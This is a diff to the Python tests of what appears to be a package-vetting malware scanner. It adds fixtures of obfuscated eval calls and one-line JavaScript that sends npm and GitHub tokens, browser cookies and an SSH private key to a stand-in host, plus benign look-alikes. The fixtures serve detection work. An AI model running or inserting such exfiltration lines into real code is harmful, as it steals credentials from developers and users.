@@ -7,6 +7,7 @@ from vetting.domain.signals.code import RULES
 from vetting.domain.signals.interface import FileUnderScan
 
 CP = "require('child_process')"
+GET = "require('https').get"
 HOME = "require('os').homedir()"
 
 
@@ -24,6 +25,12 @@ def rules_at(source: str) -> set[tuple[str, str]]:
             "global['ev' + 'al'](atob(x))",
             "const d = atob; (0, eval)(d(x))",
             "function d(x) { return unescape(x) } eval(d(y))",
+        ]),
+        ("C1", "medium", [
+            "eval(require('./package.json').description)",
+            "const {description: d} = require('./package.json'); Function('x', 'y;' + d)()",
+            "eval(process.env.npm_package_description)",
+            "const e = process.env; require('vm').runInThisContext(`${e.X}`)",
         ]),
         ("C2", "high", [
             "eval(atob('YWxlcnQoMSk='))",
@@ -46,6 +53,16 @@ def rules_at(source: str) -> set[tuple[str, str]]:
             f"fetch('https://example.invalid', {{body: require('fs').readFileSync({HOME} + '/.ssh/id_rsa')}})",
             f"const k = '.ss' + 'h/id_' + 'rsa'; fetch(x, {{body: require('f' + 's').readFileSync({HOME} + '/' + k)}})",
         ]),
+        ("C4", "high", [
+            f"const t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; {GET}('https://example.invalid/?t=' + t)",
+            f"{GET}({{host: 'example.invalid', path: '/' + process.env.NPM_TOKEN}})",
+            "new Image().src = 'https://example.invalid/?' + document.cookie",
+            "const i = document.createElement('img'); i.src = `https://example.invalid/${btoa(document.cookie)}`",
+            "window.location = 'https://example.invalid/?' + encodeURIComponent(document.cookie)",
+            "fetch(x, {method: 'POST', body: document.cookie})",
+            "const x = new XMLHttpRequest(); x.open('GET', 'https://example.invalid/' + document.cookie)",
+        ]),
+        ("C4", "medium", [f"{GET}('https://example.invalid/?access_token=' + process.env.GITHUB_TOKEN)"]),
         ("C5", "medium", [
             "require(Buffer.from('6673', 'hex').toString())",
             "global['ev' + 'al'](x)",
@@ -107,6 +124,12 @@ def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sou
         "handlers[name](event)",
         "// eval(atob('YWxlcnQoMSk='))",
         "const help = 'run eval(atob(x)) or npm publish'",
+        f"{GET}({{host: x, headers: {{authorization: process.env.NPM_TOKEN}}}})",
+        f"const o = {{}}; let p = {{a: process.env.NPM_TOKEN}}; p = f(p); {GET}(p)",
+        f"{GET}('https://' + process.env.HOST + '/x').on('error', y)",
+        "fetch('/x', {headers: {cookie: document.cookie}}); a.src = b; document.cookie = c",
+        "const c = n => document.cookie.split(n); fetch('/x?t=' + c('t'), {body: c('u')}); new Image().src = c('t')",
+        "const p = require('./package.json'); function f() { return g(process.env.X) } eval(f()); log(p.version)",
         r"const gr\u00fcn = '\u0065val'; grün(/^[\u0041-\u005a]/)",
     ],
 )
